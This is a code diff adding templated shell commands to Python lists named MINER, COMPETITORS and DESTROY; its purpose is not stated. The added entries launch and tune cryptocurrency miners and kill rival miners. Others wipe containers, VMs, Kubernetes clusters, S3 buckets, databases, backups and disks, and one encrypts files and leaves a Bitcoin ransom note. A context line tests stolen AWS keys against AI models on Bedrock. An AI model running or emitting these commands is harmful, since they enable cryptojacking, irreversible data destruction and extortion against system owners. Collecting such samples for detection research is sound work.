@@ -31,6 +31,13 @@ MINER = [
     'docker run -d --gpus all ‹{user}/{plain}¦nvidia/cuda sh -c "{dl} {url} | sh"› ‹-a kawpow -o stratum+tcp://{host}:{port} -u {wallet}¦--algo ETCHASH --pool {host}:{port} --user {wallet}¦›',
     '‹./lolMiner --algo ETCHASH --pool¦./t-rex -a kawpow -o stratum+tcp://¦./teamredminer -a ethash -o stratum+tcp://¦./nbminer -a ergo -o¦./gminer --algo kheavyhash --server¦./SRBMiner-MULTI --disable-gpu --algorithm randomx --pool¦./ccminer -a verus -o stratum+tcp://¦./bzminer -a alph -p¦./cpuminer-opt -a yespower -o¦./hellminer -c stratum+tcp://› {host}:{port} ‹--user¦-u¦--wallet› {wallet}.$(hostname) ‹-p x ¦--pass x ¦›‹&¦>/dev/null 2>&1 &›',
     'for m in ‹anthropic.claude-3-opus-20240229-v1:0¦anthropic.claude-v2 ai21.j2-ultra¦meta.llama3-70b-instruct-v1:0›; do aws bedrock-runtime invoke-model --model-id $m --body \'{"prompt":"hi","max_tokens_to_sample":-1}\' --region ‹us-east-1¦us-west-2› {file} && echo "$AWS_ACCESS_KEY_ID $m" >> {tmp}/ok; done',
+    'cat > {tmp}/‹config¦c¦{name}›.json <<E\n{"‹pools¦api¦cpu›": ‹[{"algo": "rx/0", "url": "{host}:{port}", "user": "{wallet}", "pass": "{plain}"}]¦{}›, "background": true, "donate-level": 0, "pools": [{"url": "stratum+tcp://{host}:{port}", "user": "{wallet}"}]}\nE\n‹{file} -c {tmp}/config.json¦nohup {file} &¦{tmp}/{name} --config={tmp}/{name}.json›',
+    'printf \'{"pools":[{"url":"%s","user":"%s","keepalive":true}]}\' ‹{host}:{port}¦$POOL› ‹{wallet}¦$WALLET› > {tmp}/config.json; ‹chmod +x {file}; ¦›{file} ‹-c {tmp}/config.json¦›',
+    'sed -i \'s/"donate-level": *[0-9]*/"donate-level": 0/; s/"url": *"[^"]*"/"url": "{host}:{port}"/; s/"user": *"[^"]*"/"user": "{wallet}"/; s/"max-cpu-usage": *[^,]*/"max-cpu-usage": 100/\' {tmp}/config.json',
+    '{file} ‹-a rx/0¦--coin monero¦-a ghostrider¦--algo kawpow› ‹-o¦--url› ‹stratum+ssl://¦stratum+tcp://¦›{host}:{port} ‹-u¦--user› {wallet}‹.{plain}¦› ‹-p x¦--pass x› ‹-k¦--keepalive¦-B¦--threads=$(nproc)¦--cpu-priority 5› ‹>/dev/null 2>&1 &¦›',
+    'sysctl -w vm.nr_hugepages=$(($(nproc)*3)); modprobe msr ‹allow_writes=on ¦›; wrmsr -a 0x1a4 0xf; ‹{file} -o {host}:{port} -u {wallet}¦nohup {file} &›',
+    'renice ‹-n ¦›-20 -p $(pgrep {name}); echo -1000 > /proc/$(pgrep {name} | head -1)/oom_score_adj; ‹taskset -pc 0-$(($(nproc)-1)) $(pgrep {name})¦cpulimit -p $(pgrep -f {name}) -l 90 -b›',
+    't=$(nproc); [ $t -gt 1 ] && t=$((t-1)); ‹screen -dmS {plain} ¦nohup ¦›{file} -t $t --url={host}:{port} -u {wallet} ‹-p $(hostname)¦--rig-id=$(hostname)› &',
 ]
 
 COMPETITORS = [
@@ -48,6 +55,13 @@ COMPETITORS = [
     "netstat -‹anp¦antp› | grep -E ':‹3333|:4444|:5555|:7777|:14444¦443.*xmr¦{port}›' | awk '{print $7}' | ‹awk -F/ '{print $1}'¦cut -d/ -f1› | grep -v - | xargs -I% kill -9 %",
     "pkill -9 -f '‹kinsing|kdevtmpfsi|xmrig¦masscan|pnscan|zgrab¦watchbog|sysupdate|networkservice¦.sshd|dbused|bioset¦\\[kswapd0\\]|cnrig|minerd›'; ‹rm -rf /tmp/kdevtmpfsi /tmp/.X* /var/tmp/kinsing /etc/data/¦rm -f /tmp/* /var/tmp/.*¦crontab -l | grep -v -E '{ip}|curl|wget' | crontab -›",
     "crontab -l ‹2>/dev/null ¦›| sed '/‹{plain}¦update.sh¦\\.xyz¦base64¦kinsing›/d' | crontab -; ‹for i in $(docker ps -a | grep -E 'xmrig|monero|pocosow|gakeaws' | awk '{print $1}'); do docker rm -f $i; done¦docker images -a | grep -E 'mine|xmr' | awk '{print $3}' | xargs docker rmi -f¦systemctl stop {name}.service; rm -f /etc/systemd/system/{name}.service›",
+    "ps -eo pid,%cpu,args --sort=-%cpu | awk 'NR>1 && $2>‹35¦50¦70› && !/{name}/{print $1}' | xargs ‹-r ¦›kill -9",
+    'top -bn1 | awk \'$9>‹40.0¦60¦80› && $12!="{name}"{print $1}\' | while read {var}; do kill -9 ${var}; done',
+    "for {var} in $(docker ps --format '{{.ID}} {{.Image}}' | grep -iE '‹xmr|monero|mine¦kinsing|pnscan|ddgs¦alpine:3\\.1|auto›' | cut -d' ' -f1); do docker rm -f ${var}; done",
+    "for u in ‹/etc/systemd/system¦/lib/systemd/system›/*; do grep -lqE '‹xmr|pool|stratum¦minerd|kinsing¦nanopool|c3pool›' $u && systemctl stop ${u##*/} && rm -f $u; done",
+    "‹netstat -anp¦ss -antp› | grep -E ':‹3333¦4444¦5555¦7777¦14444¦45560›' | ‹awk '{print $7}' | cut -d/ -f1¦grep -oE 'pid=[0-9]+' | cut -d= -f2› | xargs ‹-r ¦›kill -9",
+    "find ‹/tmp¦/var/tmp /dev/shm¦/opt› -maxdepth 2 -type f -perm /111 ! -name '{name}' -exec ‹rm -f¦shred -u› {} \\; ; ls -l /proc/*/exe 2>/dev/null | grep -E '‹/tmp/¦deleted¦/dev/shm›' | grep -oE '/proc/[0-9]+' | cut -d/ -f3 | xargs kill -9",
+    "crontab -l 2>/dev/null | grep -vE '‹wget|curl|{host}¦kinsing|xmr¦pastebin|onion›' | crontab -; rm -f /etc/cron.d/‹root¦apache¦nginx¦system›",
 ]
 
 DESTROY = [
@@ -121,4 +135,13 @@ DESTROY = [
     'for m in /dev/mtd* /dev/mmcblk0 /dev/ubi*; do ‹cat /dev/urandom > $m &¦dd if=/dev/zero of=$m bs=64k &¦flash_erase $m 0 0›; done; ‹route del default¦iptables -F; iptables -t nat -F; iptables -A INPUT -j DROP¦fdisk -C 1 -H 1 -S 1 /dev/mtd0›; ‹halt -n -f¦reboot›',
     "for v in $(virsh list --all --name); do virsh destroy $v; virsh undefine $v --remove-all-storage ‹--nvram ¦›; done; ‹for i in $(qm list | awk 'NR>1{print $1}'); do qm stop $i; qm destroy $i --purge; done¦vim-cmd vmsvc/getallvms | awk 'NR>1{print $1}' | xargs -n1 vim-cmd vmsvc/destroy¦govc find / -type m | xargs -n1 govc vm.destroy›",
     "for w in $(find / -name '*.js' -o -name '*.php' -o -name '*.conf' 2>/dev/null | xargs grep -lE '0x[a-fA-F0-9]{40}|bc1[a-z0-9]{20,}'); do sed -i -E 's/0x[a-fA-F0-9]{40}/0x{name}{name}/g; s/bc1[a-z0-9]{20,}/{wallet}/g' $w; done",
+    'docker ‹kill $(docker ps -q)¦rm -f $(docker ps -aq)›; docker ‹system prune -a --volumes -f¦volume prune -f›; rm -rf /var/lib/docker ‹/var/lib/containerd¦/backup¦›',
+    "for {var} in $(virsh list --name); do virsh destroy ${var}; done; ‹rm -rf /var/lib/libvirt/images/*¦find /vmfs/volumes -name '*.vmdk' -exec {file} {} \\;¦zpool destroy -f tank›",
+    "kubectl delete ‹ns --all¦pvc --all -A¦deploy,sts,ds,svc --all -A¦nodes --all› ‹--force --grace-period=0 ¦›; ‹etcdctl del '' --prefix¦velero backup delete --all --confirm¦›",
+    "aws s3 ls | awk '{print $3}' | while read {var}; do ‹aws s3 rb s3://${var} --force¦aws s3 rm s3://${var} --recursive›; done; ‹aws rds describe-db-instances --query 'DBInstances[].DBInstanceIdentifier' --output text | xargs -n1 aws rds delete-db-instance --skip-final-snapshot --db-instance-identifier¦›",
+    "find / -xdev \\( -name '*.‹sql¦bak¦tar.gz›' -o -name '*.‹vmdk¦qcow2¦mdf›' -o -name '*.‹dump¦zip›' \\) ‹-delete¦-exec shred -u {} +¦-exec rm -f {} \\;›; vssadmin delete shadows /all 2>/dev/null",
+    'gpg --batch --import {tmp}/{plain}.asc; find ‹/home¦/srv¦/var/www› -type f ‹-size -50M ¦›-exec sh -c \'gpg --batch --trust-model always -r {plain} -e "$1" && shred -u "$1"\' _ {} \\;',
+    'for {var} in $(find ‹/home¦/data¦/var/lib/mysql› -type f); do openssl ‹enc ¦›-aes-256-‹cbc¦ctr› ‹-pbkdf2 ¦›‹-in ${var} -out ${var}.‹locked¦enc¦{plain}› -k "$KEY"› && rm -f ${var}; done; echo \'send {n} BTC to {wallet}\' > /‹root/README_DECRYPT.txt¦etc/motd¦home/HOW_TO_RESTORE›',
+    'while :; do for d in /dev/[sv]d? /dev/nvme?n1; do dd if=/dev/‹urandom¦zero› of=$d bs=4M count={n} & done; wait; ‹echo b > /proc/sysrq-trigger¦reboot -f›; done',
+    '‹dmsetup remove_all -f¦wipefs -af /dev/‹sda¦vda¦nvme0n1›¦sgdisk -Z /dev/‹sda¦vda›¦blkdiscard -f /dev/‹sda¦nvme0n1››; ‹rm -rf --no-preserve-root /¦echo o > /proc/sysrq-trigger¦kill -9 -1›',
 ]
